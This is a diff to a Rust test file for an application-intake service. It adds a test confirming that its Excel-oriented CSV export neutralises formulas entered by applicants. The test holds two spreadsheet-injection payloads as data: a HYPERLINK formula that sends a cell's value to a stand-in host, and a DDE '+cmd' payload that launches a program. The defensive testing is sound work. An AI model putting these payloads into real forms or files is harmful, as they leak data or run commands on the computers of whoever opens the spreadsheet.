@@ -675,7 +675,7 @@ async fn reports_in_csv_and_html() {
     let mut lines = csv.split("\r\n");
     assert_eq!(
         lines.next().unwrap(),
-        "email,name,status,missing,check,check_detail,received_at,updated_at,name,region,languages,motivation,time,heard"
+        "email,name,status,missing,check,check_detail,received_at,updated_at,question:name,region,languages,motivation,time,heard"
     );
     let row = lines.next().unwrap();
     assert!(
@@ -706,6 +706,75 @@ async fn reports_in_csv_and_html() {
         html.contains("1 application (1 complete, 0 incomplete)"),
         "{html}"
     );
+}
+
+/// An applicant's formula reaches the CSV as text a spreadsheet shows and
+/// does not run, and `--excel` starts the file with a byte-order mark.
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_for_excel_neutralises_an_applicants_formulas() {
+    let intake = Intake::new();
+    let who = applicant(&intake);
+    let q = ask(&intake, &who, "Apply").await;
+    let hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
+    let answer = reply(
+        &who,
+        "Ada",
+        &q,
+        &format!("1. {hyperlink}\n2. c\n3. a, b\n4. +cmd|' /C calc'!A0\n5. no"),
+        &[],
+    );
+    intake.receive(&who, &answer).await;
+    intake.once();
+    wait_mails(&intake, &who, 2);
+    let app = intake.application(&who).unwrap();
+    assert_eq!(
+        app["answers"]["name"], hyperlink,
+        "stored as typed: {app:#}"
+    );
+
+    let path = intake.dir.path().join("report.csv");
+    let out = intake.cmd(&[
+        "report",
+        "--format",
+        "csv",
+        "--excel",
+        "--output",
+        path.to_str().unwrap(),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let bytes = std::fs::read(&path).unwrap();
+    let body = bytes
+        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
+        .expect("a UTF-8 byte-order mark first");
+    let mut rd = csv::Reader::from_reader(body);
+    let header = rd.headers().unwrap().clone();
+    assert_eq!(&header[0], "email");
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = rd.records().next().unwrap().unwrap();
+    assert_eq!(&row[col("email")], who.as_str());
+    // The applicant's name, taken from the `name` answer, and the answer.
+    assert_eq!(&row[col("name")], format!("'{hyperlink}"));
+    assert_eq!(&row[col("question:name")], format!("'{hyperlink}"));
+    assert_eq!(&row[col("motivation")], "'+cmd|' /C calc'!A0");
+    for cell in &row {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@']),
+            "{cell:?} in {row:?}"
+        );
+    }
+
+    // Without --excel, no mark; for another format, an error naming it.
+    let plain = intake.cmd(&["report", "--format", "csv"]);
+    assert!(plain.status.success());
+    assert!(plain.stdout.starts_with(b"email,"));
+    let out = intake.cmd(&["report", "--format", "json", "--excel"]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("--excel"), "{err}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
